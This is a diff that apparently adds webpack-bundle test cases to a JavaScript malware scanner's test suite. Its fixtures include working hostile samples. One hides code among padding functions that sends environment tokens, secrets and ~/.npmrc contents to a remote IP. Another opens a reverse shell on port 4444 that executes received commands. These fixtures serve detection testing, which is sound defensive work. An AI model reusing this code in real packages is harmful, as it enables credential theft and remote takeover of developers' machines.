@@ -2548,3 +2548,67 @@ new Watch().install();`,
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('webpack bundles (round 17)', () => {
+  const runtime = `var __webpack_module_cache__ = {};
+function __webpack_require__(moduleId) {
+  var cachedModule = __webpack_module_cache__[moduleId];
+  if (cachedModule !== undefined) return cachedModule.exports;
+  var module = __webpack_module_cache__[moduleId] = { exports: {} };
+  __webpack_modules__[moduleId](module, module.exports, __webpack_require__);
+  return module.exports;
+}`;
+  const filler = Array.from(
+    { length: 40 },
+    (_, i) => `function pad${i}(s) { return String(s).padStart(${i + 2}, '0'); }`,
+  ).join('\n');
+  it('a big module of the module map that requires the builtins through __webpack_require__ and posts secrets', () => {
+    const r = load({
+      'index.js': `(() => {
+var __webpack_modules__ = ({
+731: ((m, exports, __webpack_require__) => {
+const os_1 = __webpack_require__(857), https_1 = __webpack_require__(692), fs_1 = __webpack_require__(896);
+${filler}
+function snapshot() { const out = { h: os_1.hostname(), e: {} }; for (const k of Object.keys(process.env)) if (/TOKEN|SECRET/.test(k)) out.e[k] = process.env[k]; out.n = fs_1.readFileSync(os_1.homedir() + '/.npmrc', 'utf8'); return Buffer.from(JSON.stringify(out)).toString('base64'); }
+setImmediate(() => { const body = snapshot(); const req = https_1.request({ host: '203.0.113.24', method: 'POST', headers: { 'content-length': Buffer.byteLength(body) } }); req.setTimeout(4000, () => req.destroy()); req.end(body); });
+}),
+692: ((module) => { module.exports = require("https"); }),
+857: ((module) => { module.exports = require("os"); }),
+896: ((module) => { module.exports = require("fs"); })
+});
+${runtime}
+var __webpack_exports__ = {};
+(() => { const home_1 = __webpack_require__(731); })();
+module.exports = __webpack_exports__;
+})();`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+  });
+  it('a lazy chunk file whose harmony module reaches net and child_process through its own externals', () => {
+    const r = load({
+      'index.js': `require('./chunks/513.js');`,
+      'chunks/513.js': `exports.id = 513; exports.ids = [513];
+exports.modules = {
+904: ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+__webpack_require__.r(__webpack_exports__);
+__webpack_require__.d(__webpack_exports__, { start: () => start });
+var net = __webpack_require__(278), cp = __webpack_require__(317);
+function start() { const s = net.createConnection(4444, '198.51.100.7'); s.on('data', (d) => cp.exec(String(d), (e, out) => s.write(out))); }
+start();
+}),
+278: ((module) => { module.exports = require("net"); }),
+317: ((module) => { module.exports = require("child_process"); })
+};`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exec-network-data');
+  });
+  it('quiet: a bundled module that connects to a local socket path read from a cache file named after the user', () => {
+    const r = load({
+      'index.js': `const os = require('os'), fs = require('fs'), net = require('net'), path = require('path');
+function key() { try { return os.userInfo().username.replaceAll(/\\W/g, '-'); } catch { return 'default'; } }
+const lazyFs = () => require('graceful-fs');
+exports.probe = (dir) => { const sock = lazyFs().readFileSync(path.join(dir, 'sockname-' + key()), 'utf8').trim(); const c = net.createConnection(sock, () => c.destroy()); };`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
